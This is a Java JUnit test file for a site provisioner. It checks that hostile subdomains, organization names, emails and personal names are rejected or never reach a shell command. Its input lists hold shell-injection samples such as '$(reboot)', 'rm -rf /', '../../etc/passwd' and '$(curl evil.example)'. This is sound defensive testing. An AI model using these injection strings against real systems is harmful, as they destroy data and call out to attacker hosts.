package io.benchline.provisioner;

import static io.benchline.testing.TopicDump.events;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.benchline.events.FailureReason;
import io.benchline.events.ProvisioningFailed;
import io.benchline.events.Signup;
import io.benchline.events.SiteProvisioned;
import io.benchline.events.TenantRequested;
import io.benchline.platform.secrets.Keysets;
import io.benchline.schemas.Topic;
import io.benchline.simulator.RecordedCommand;
import io.benchline.simulator.fixture.SimulatedBenchHost;
import io.benchline.testing.TopicDump;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile site names fail with INVALID_REQUEST before anything runs; hostile organization names, emails and
 * personal names on valid subdomains never reach a command line. The simulator's command record shows only the
 * provisioner's templates with valid site names.
 */
class HostileInputTests {

    private static final String SITE = "'[a-z0-9][a-z0-9-]{1,61}[a-z0-9]\\.localhost'";
    private static final String CD = "cd '/home/frappe/frappe-bench' && ";
    private static final String LIMIT = "timeout --kill-after=30s [0-9]+ ";
    private static final String BENCH = CD + LIMIT + "bench ";
    /** The bench host doctor's read-only checks (hosts/checks): fixed lines with nothing from a signup in them. */
    private static final List<Pattern> DOCTOR_TEMPLATES = List.of(
            Pattern.compile(CD + "bench --version"),
            Pattern.compile(CD + "cat sites/common_site_config\\.json"),
            Pattern.compile(CD + "bench version"),
            Pattern.compile("sudo -n -l service nginx reload"),
            Pattern.compile(CD + "env HTTPS_PROXY=http://127\\.0\\.0\\.1:9 bench config --help"));

    private static final List<Pattern> TEMPLATES = List.of(
            Pattern.compile(BENCH + "--site " + SITE + " execute frappe.get_installed_apps"),
            Pattern.compile(BENCH + "new-site " + SITE + " --install-app erpnext"),
            Pattern.compile(BENCH + "drop-site " + SITE + " --force --no-backup"),
            Pattern.compile(BENCH + "--site " + SITE
                    + " execute frappe.core.doctype.user.user.generate_keys --args \"\\['Administrator'\\]\""),
            Pattern.compile(BENCH + "--site " + SITE
                    + " execute frappe.db.get_value --args \"\\['User','Administrator','api_key'\\]\""),
            Pattern.compile(CD + LIMIT + "env HTTPS_PROXY=http://127.0.0.1:9 bench setup nginx --yes"),
            Pattern.compile("sudo service nginx reload"));

    /** What PasswordGenerator makes: 32 characters of letters and digits. */
    private static final Pattern GENERATED_PASSWORD = Pattern.compile("[A-Za-z0-9]{32}");

    private static final List<String> HOSTILE_SUBDOMAINS = List.of(
            "a;touch pwned",
            "$(reboot)",
            "`id`",
            "x' && rm -rf / '",
            "acme\" || true \"",
            "../../etc/passwd",
            "xn--80ak6aa92e",
            "ACME",
            "ab",
            "-acme",
            "acme-",
            "acme\nbench drop-site other.localhost",
            "a".repeat(64),
            "acme.evil.example",
            "acme localhost");

    @TempDir
    Path folder;

    /** Passwords travel on stdin: the host's process list (and the simulator's record) never shows one. */
    @Test
    void noPasswordEverReachesACommandLine() {
        String keyset = Keysets.generateJson();
        try (SimulatedBenchHost host = SimulatedBenchHost.start(folder);
                RunningProvisioner provisioner = RunningProvisioner.start(
                        "provisioner-passwords-" + UUID.randomUUID(), keyset, host.properties(0, "bench-1", 4))) {
            TenantRequested request = Requests.forSubdomain(Requests.subdomain("secret"));
            Requests.send(provisioner, request);
            await().atMost(Duration.ofSeconds(60))
                    .until(() -> !events(SiteProvisioned.class, request.getTenantId())
                            .isEmpty());

            List<RecordedCommand> commands = host.simulator.commands();
            assertThat(commands).anyMatch(c -> c.commandLine().contains("new-site"));
            assertThat(commands)
                    .allSatisfy(c -> assertThat(c.argv())
                            .as("words of %s", c.commandLine())
                            .doesNotContain("--admin-password", "--password", "--db-root-password")
                            .noneMatch(word -> GENERATED_PASSWORD.matcher(word).matches()));
        }
    }

    @Test
    void hostileInputNeverReachesTheShell() {
        String keyset = Keysets.generateJson();
        try (SimulatedBenchHost host = SimulatedBenchHost.start(folder);
                RunningProvisioner provisioner = RunningProvisioner.start(
                        "provisioner-hostile-" + UUID.randomUUID(), keyset, host.properties(0, "bench-1", 4))) {
            List<TenantRequested> hostile = new ArrayList<>();
            for (String subdomain : HOSTILE_SUBDOMAINS) {
                TenantRequested request = Requests.forSubdomain(Requests.subdomain("x"));
                Signup signup = Signup.newBuilder(request.getSignup())
                        .setSubdomain(subdomain)
                        .setSiteName(subdomain + ".localhost")
                        .build();
                hostile.add(
                        TenantRequested.newBuilder(request).setSignup(signup).build());
            }
            // A valid subdomain whose site name points elsewhere.
            TenantRequested mismatched = Requests.forSubdomain(Requests.subdomain("mis"));
            hostile.add(TenantRequested.newBuilder(mismatched)
                    .setSignup(Signup.newBuilder(mismatched.getSignup())
                            .setSiteName("other.localhost; bench drop-site x")
                            .build())
                    .build());
            TenantRequested nastyPeople = Requests.forSubdomain(Requests.subdomain("people"));
            nastyPeople = TenantRequested.newBuilder(nastyPeople)
                    .setSignup(Signup.newBuilder(nastyPeople.getSignup())
                            .setOrganization("Acme'; bench drop-site --force x; echo '")
                            .setEmail("$(curl evil.example)@acme.example")
                            .setFirstName("`reboot`")
                            .setLastName("\" && touch /tmp/pwned && \"")
                            .build())
                    .build();

            hostile.forEach(r -> Requests.send(provisioner, r));
            Requests.send(provisioner, nastyPeople);

            TenantRequested last = nastyPeople;
            await().atMost(Duration.ofSeconds(60))
                    .until(() ->
                            !events(SiteProvisioned.class, last.getTenantId()).isEmpty()
                                    && TopicDump.tenants(Topic.PROVISIONING_FAILED)
                                            .containsAll(hostile.stream()
                                                    .map(TenantRequested::getTenantId)
                                                    .toList()));

            for (TenantRequested request : hostile) {
                assertThat(events(ProvisioningFailed.class, request.getTenantId()))
                        .singleElement()
                        .satisfies(f -> assertThat(f.getReason()).isEqualTo(FailureReason.INVALID_REQUEST));
            }
            List<RecordedCommand> commands = host.simulator.commands();
            assertThat(commands).isNotEmpty();
            assertThat(commands)
                    .allSatisfy(c -> assertThat(Stream.concat(TEMPLATES.stream(), DOCTOR_TEMPLATES.stream()))
                            .as("template matching %s", c.commandLine())
                            .anyMatch(t -> t.matcher(c.commandLine()).matches()));
            String validSubdomain = last.getSignup().getSubdomain();
            assertThat(commands)
                    .as("only the valid tenant's site is ever named")
                    .allMatch(c -> c.commandLine().contains(validSubdomain)
                            || !c.commandLine().contains(".localhost"));
        }
    }
}
